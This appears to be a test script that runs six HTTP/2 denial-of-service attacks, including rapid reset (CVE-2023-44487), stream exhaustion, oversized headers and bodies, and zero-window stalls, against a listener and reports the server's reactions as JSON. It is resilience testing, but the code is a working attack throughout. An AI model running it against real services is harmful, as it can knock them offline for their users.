"""Attacks a listener over HTTP/2 with the `h2` library, and tells how it took that.

http2_attacks.py https://HOST:PORT ATTACK: prints one JSON object.

- resets: opens and resets streams as fast as it can (CVE-2023-44487).
- streams: opens 300 streams at once and finishes none.
- headers: sends one header of 64 KiB.
- giant: sends a body of 1 GiB as far as the windows allow.
- window: asks for /metrics and gives no room for the answer.
- silent: says hello and nothing else.
"""

import json
import socket
import ssl
import sys
import time
import urllib.parse

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

address = urllib.parse.urlparse(sys.argv[1])
attack = sys.argv[2]
seen = {"status": {}, "reset": {}, "goAway": None, "ended": False, "streams": 0, "bytes": 0}
start = time.monotonic()

tls = ssl.create_default_context()
tls.check_hostname = False
tls.verify_mode = ssl.CERT_NONE
tls.set_alpn_protocols(["h2"])
wire = tls.wrap_socket(socket.create_connection((address.hostname, address.port), timeout=10))
assert wire.selected_alpn_protocol() == "h2"
peer = h2.connection.H2Connection(h2.config.H2Configuration(
    client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False))
peer.initiate_connection()
if attack == "window":
    peer.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})


def flush():
    """Returns whether the connection still stands."""
    data = peer.data_to_send()
    try:
        if data:
            wire.sendall(data)
        return True
    except OSError:
        seen["ended"] = True
        return False


def listen(seconds):
    """Takes what comes for so long, or until the connection ends."""
    until = time.monotonic() + seconds
    while not seen["ended"] and (left := until - time.monotonic()) > 0:
        wire.settimeout(left)
        try:
            data = wire.recv(65536)
        except (TimeoutError, ssl.SSLWantReadError):
            return
        except OSError:
            data = b""
        if not data:
            seen["ended"] = True
            return
        try:
            events = peer.receive_data(data)
        except h2.exceptions.ProtocolError:
            continue
        for event in events:
            if isinstance(event, h2.events.ResponseReceived):
                status = dict(event.headers)[b":status"].decode()
                seen["status"][status] = seen["status"].get(status, 0) + 1
            elif isinstance(event, h2.events.StreamReset):
                code = str(int(event.error_code))
                seen["reset"][code] = seen["reset"].get(code, 0) + 1
            elif isinstance(event, h2.events.ConnectionTerminated):
                seen["goAway"] = int(event.error_code)
        flush()


def ask(method="GET", path="/healthz", fields=(), whole=True):
    stream = peer.get_next_available_stream_id()
    peer.send_headers(stream, [
        (":method", method), (":scheme", "https"), (":authority", "attacker"), (":path", path), *fields],
        end_stream=whole)
    seen["streams"] += 1
    return stream


flush()
listen(0.3)
if attack == "resets":
    while seen["streams"] < 20_000 and not seen["ended"] and seen["goAway"] is None:
        for _ in range(100):
            peer.reset_stream(ask())
        if not flush():
            break
        listen(0.001)
    listen(15)
elif attack == "streams":
    # Without asking our own library, which knows the bound.
    peer.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1000
    peer.remote_settings.acknowledge()
    for _ in range(300):
        ask("POST", "/triggers/app-backend", [("content-type", "application/json")], whole=False)
    flush()
    listen(15)
elif attack == "headers":
    ask(fields=[("x-large", "a" * 65536)])
    flush()
    listen(15)
elif attack == "giant":
    stream = ask("POST", "/triggers/app-backend", [
        ("content-type", "application/json"), ("content-length", str(1 << 30))], whole=False)
    while seen["bytes"] < 1 << 30 and not seen["reset"] and time.monotonic() - start < 20:
        try:
            room = min(peer.local_flow_control_window(stream), peer.max_outbound_frame_size)
            if room > 0:
                peer.send_data(stream, b" " * room)
                seen["bytes"] += room
        except h2.exceptions.ProtocolError:
            break
        if not flush():
            break
        listen(0.01 if room > 0 else 0.2)
    listen(1)
elif attack == "window":
    ask(path="/metrics")
    flush()
    until = time.monotonic() + 60
    while not seen["reset"] and not seen["ended"] and time.monotonic() < until:
        listen(0.5)
elif attack == "silent":
    while not seen["ended"] and time.monotonic() - start < 60:
        listen(0.5)
seen["seconds"] = round(time.monotonic() - start, 1)
print(json.dumps(seen))
